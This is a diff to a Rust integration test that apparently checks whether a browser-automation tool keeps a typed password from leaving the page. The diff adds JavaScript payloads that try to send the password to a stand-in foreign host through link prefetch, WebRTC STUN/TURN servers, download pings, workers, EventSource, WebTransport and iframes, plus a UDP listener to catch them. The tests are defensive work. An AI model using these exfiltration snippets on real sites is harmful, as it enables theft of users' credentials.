@@ -5,7 +5,7 @@
 mod support;
 
 use std::io::{BufRead, BufReader, Read, Write};
-use std::net::{TcpListener, TcpStream};
+use std::net::{TcpListener, TcpStream, UdpSocket};
 use std::sync::{Arc, Mutex};
 
 use firstbell::http::HyperHttp;
@@ -124,8 +124,14 @@ async fn after_the_fill(driver: &mut dyn Driver, kite: &Kite) -> Seen {
 /// Runs one attack; gives what the driver saw in the end, and every request that carried the password.
 async fn attack(engine: Engine, script: &str) -> (Seen, Vec<String>) {
     let (elsewhere, foreign) = serve("127.0.0.2", "<p>elsewhere</p>");
-    let (site, own) = serve("127.0.0.1", &page(&script.replace("ELSEWHERE", &elsewhere)));
+    let datagrams = UdpSocket::bind("127.0.0.2:0").unwrap();
+    let stun = datagrams.local_addr().unwrap().to_string();
+    let script = &script.replace("ELSEWHERE", &elsewhere).replace("STUN", &stun);
+    let (site, own) = serve("127.0.0.1", &page(script));
     let seen = walk(engine, &site).await;
+    datagrams.set_nonblocking(true).unwrap();
+    let datagram = datagrams.recv(&mut [0; 2048]);
+    assert!(datagram.is_err(), "{script}: a datagram of {datagram:?} bytes came");
     let all = [own.lock().unwrap().clone(), foreign.lock().unwrap().clone()].concat();
     let foreign = foreign.lock().unwrap().clone();
     assert!(foreign.is_empty(), "{script}: another origin was reached: {foreign:?}");
@@ -152,7 +158,7 @@ macro_rules! engines {
 engines!(chrome: CHROME, firefox: FIREFOX, chromedriver: CHROMEDRIVER, geckodriver: GECKODRIVER);
 
 async fn nothing_leaves(engine: Engine) {
-    for script in [
+    let scripts = [
         "fetch('/api/v2/session', {method: 'POST', body: pw()}); setTimeout(() => location = '/blocked?' + pw(), 50);",
         "for (let i = 0; i < 5; i++) fetch('/api/login', {method: 'PUT', body: pw()});",
         "for (let i = 0; i < 5; i++) fetch('/api/log' + i, {method: 'POST', body: pw()}).catch(() => {});",
@@ -166,15 +172,41 @@ async fn nothing_leaves(engine: Engine) {
         "const f = document.createElement('iframe'); f.src = '/frame?' + pw(); document.body.append(f);",
         "new Image().src = 'ELSEWHERE/?' + pw(); new WebSocket('ELSEWHERE/?'.replace('http', 'ws') + pw());",
         "location = 'ELSEWHERE/?' + pw();",
-    ] {
-        let (seen, carried) = attack(engine, script).await;
-        assert!(carried.is_empty(), "{script}\nlet {carried:?} leave");
-        let told = match &seen {
-            Seen::Untyped { .. } | Seen::Away(_) => true,
-            Seen::Lost { left, .. } => !left,
-            _ => false,
-        };
-        assert!(told, "{script}\nended with {seen:?}");
+        "for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'stylesheet', 'icon', 'modulepreload']) {\
+         const l = document.createElement('link'); l.rel = rel; l.href = 'ELSEWHERE/' + pw(); document.head.append(l); }",
+        "try { const p = new RTCPeerConnection({iceServers: [{urls: ['stun:STUN', 'turn:STUN?transport=udp'], \
+         username: pw(), credential: 'x'}, {urls: 'turn:STUN?transport=tcp', username: pw(), credential: 'x'}], \
+         iceCandidatePoolSize: 4}); p.createDataChannel(pw()); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}",
+        "const a = document.createElement('a'); a.download = pw(); a.href = 'data:text/plain,' + pw(); document.body.append(a); \
+         a.click(); const b = a.cloneNode(); b.href = URL.createObjectURL(new Blob([pw()])); b.click(); \
+         const c = a.cloneNode(); c.href = 'ELSEWHERE/' + pw(); c.click(); const d = a.cloneNode(); d.ping = 'ELSEWHERE/?' + pw(); \
+         d.href = '/file?' + pw(); d.click();",
+        "document.body.style.background = `url(ELSEWHERE/${pw()})`; new EventSource('ELSEWHERE/?' + pw()); \
+         new EventSource('/events?' + pw()); const v = document.createElement('video'); v.src = 'ELSEWHERE/' + pw(); v.load();",
+        "navigator.serviceWorker?.register('/worker.js?' + pw()).catch(() => {}); \
+         try { new Worker(URL.createObjectURL(new Blob([`fetch('ELSEWHERE/?${pw()}'); fetch('/w?${pw()}')`]))); } catch {} \
+         try { new SharedWorker('/shared.js?' + pw()); } catch {}",
+        "const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; \
+         try { new w.SharedWorker('/shared.js?' + pw()); } catch {} try { new w.Worker('/worker.js?' + pw()); } catch {} \
+         w.navigator.serviceWorker?.register('/service.js?' + pw()).catch(() => {});",
+        "try { new WebTransport('ELSEWHERE/?'.replace('http:', 'https:') + pw()); } catch {} \
+         const f = document.createElement('iframe'); f.srcdoc = `<img src='ELSEWHERE/?${pw()}'><script>fetch('ELSEWHERE/?${pw()}')\
+         <\\/script>`; document.body.append(f); const o = document.createElement('object'); o.data = 'ELSEWHERE/' + pw(); \
+         document.body.append(o); fetch('ELSEWHERE/?' + pw(), {keepalive: true, mode: 'no-cors'}).catch(() => {});",
+    ];
+    // Most of an attack is waiting for what it might still do.
+    for some in scripts.chunks(4) {
+        let attacks = some.iter().map(|script| attack(engine, script));
+        let ended = futures_util::future::join_all(attacks).await;
+        for (script, (seen, carried)) in some.iter().zip(ended) {
+            assert!(carried.is_empty(), "{script}\nlet {carried:?} leave");
+            let told = match &seen {
+                Seen::Untyped { .. } | Seen::Away(_) => true,
+                Seen::Lost { left, .. } => !left,
+                _ => false,
+            };
+            assert!(told, "{script}\nended with {seen:?}");
+        }
     }
 }
 
